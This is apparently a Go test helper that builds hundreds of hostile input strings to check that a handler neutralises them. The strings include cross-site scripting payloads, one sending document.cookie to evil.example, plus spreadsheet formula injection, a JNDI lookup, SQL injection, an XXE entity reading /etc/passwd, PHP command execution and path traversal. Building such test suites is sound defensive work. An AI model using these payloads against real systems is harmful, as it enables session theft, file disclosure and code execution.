package handler

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// hostile makes at least 485 different texts that would do something where
// they are taken for more than words: in a page, a letter, a feed, a table, a
// template or a database. They are families of known attacks, put together.
func hostile(t *testing.T) []string {
	t.Helper()
	var all []string
	scripts := []string{"alert(1)", "alert`1`", "fetch('//evil.example/'+document.cookie)", "top['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))"}
	tags := []string{"<script>%s</script>", "<ScRiPt>%s</sCrIpT>", "<script/x>%s</script>", "<img src=x onerror=%s>", "<img/src='x'/onerror=\"%s\">", "<svg onload=%s>", "<svg><script>%s</script></svg>",
		"<body onload=%s>", "<iframe srcdoc='<script>%s</script>'></iframe>", "<iframe src=javascript:%s>", "<a href=javascript:%s>x</a>", "<a href='jav&#x09;ascript:%s'>x</a>", "<details open ontoggle=%s>",
		"<math><mtext><style><img src onerror=%s></style></mtext></math>", "<form action=javascript:%s><button>x</button></form>", "<input autofocus onfocus=%s>", "<video><source onerror=%s></video>",
		"<object data=javascript:%s>", "<embed src=javascript:%s>", "<base href=//evil.example/><script src=x>%s</script>", "<style>*{background:url(javascript:%s)}</style>", "<link rel=stylesheet href=javascript:%s>",
		"<meta http-equiv=refresh content='0;url=javascript:%s'>", "<noscript><p title=\"</noscript><img src=x onerror=%s>\">", "<template><script>%s</script></template>", "<textarea></textarea><script>%s</script>",
		"\"><script>%s</script>", "' onmouseover='%s", "--><script>%s</script><!--", "]]><script>%s</script>", "</title><script>%s</script>", "<x onclick=%s>y", "<<script>%s//<</script>", "<\u0000script>%s</script>",
		"＜script＞%s＜/script＞", "&lt;script&gt;%s&lt;/script&gt;", "&#60;script&#62;%s&#60;/script&#62;", "%%3Cscript%%3E%s%%3C/script%%3E", "\\u003cscript\\u003e%s\\u003c/script\\u003e"}
	for _, tag := range tags {
		for _, script := range scripts {
			all = append(all, fmt.Sprintf(tag, script))
		}
	}
	links := []string{"javascript:%s", "JaVaScRiPt:%s", " javascript:%s", "java\tscript:%s", "java\nscript:%s", "\x01javascript:%s", "javascript&colon;%s", "&#106;avascript:%s", "vbscript:%s", "data:text/html,<script>%s</script>", "data:text/html;base64,%s", "//evil.example/%s", "file:///etc/%s", "https://user:%s@evil.example", "blob:%s"}
	around := []string{"[x](%s)", "[x](<%s>)", "![x](%s)", "<%s>", "[x]: %s\n\n[x]", "[![x](%[1]s)](%[1]s)", "[x](%s \"title\")", "<a href=\"%s\">"}
	for _, link := range links {
		for _, frame := range around {
			all = append(all, fmt.Sprintf(frame, fmt.Sprintf(link, "alert(1)")))
		}
	}
	for _, start := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "\u200b=", "\ufeff=", "\u00a0=", "\";=", "',=", "\x00="} {
		for _, formula := range []string{"cmd|'/C calc'!A0", "HYPERLINK(\"https://evil.example\",\"x\")", "1+1", "IMPORTXML(\"https://evil.example\",\"//a\")", "SUM(A1:A9)"} {
			all = append(all, start+formula)
		}
	}
	for _, mark := range []string{"\u202e", "\u202d", "\u2066", "\u2067", "\u200b", "\u200f", "\u2028", "\ufeff", "\u00ad", "\u0000", "\u001b[31m", "\u0085", "\U000e0041"} {
		for _, frame := range []string{"%s", "a%sb", "<%sscript>alert(1)</script>", "[x](java%sscript:alert(1))", "=%s1+1", "%sfdp.exe"} {
			all = append(all, fmt.Sprintf(frame, mark))
		}
	}
	all = append(all, "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{constructor.constructor('alert(1)')()}}", "{% import os %}", "${jndi:ldap://evil.example/a}", "'; drop table alert; --", "1' or '1'='1",
		`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`, `<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>&b;`, "<![CDATA[<script>alert(1)</script>]]>", "]]>", "<?php system('id') ?>",
		"</content><entry><title>false</title></entry>", "\r\nBcc: all@evil.example", "\r\n\r\n<html>", "END:VEVENT\r\nBEGIN:VEVENT", "a\x0bb", "a\fb", "\x7f", "\ufffe", "\xff\xfe", "%0d%0aSet-Cookie:a=b", "../../../../etc/passwd",
		"[a]: <javascript:alert(1)>\n[a]", "```\n</code></pre><script>alert(1)</script>", "`</code><script>alert(1)</script>`", "<https://a.example/\"onclick=alert(1)>", "[x](https://a.example/\"onclick=\"alert(1))", "- \n<script>alert(1)</script>")
	slices.Sort(all)
	all = slices.Compact(all)
	if len(all) < 485 {
		t.Fatalf("only %d hostile texts", len(all))
	}
	for _, text := range all {
		if strings.Contains(text, "%!") {
			t.Fatalf("%q is not well made", text)
		}
	}
	return all
}
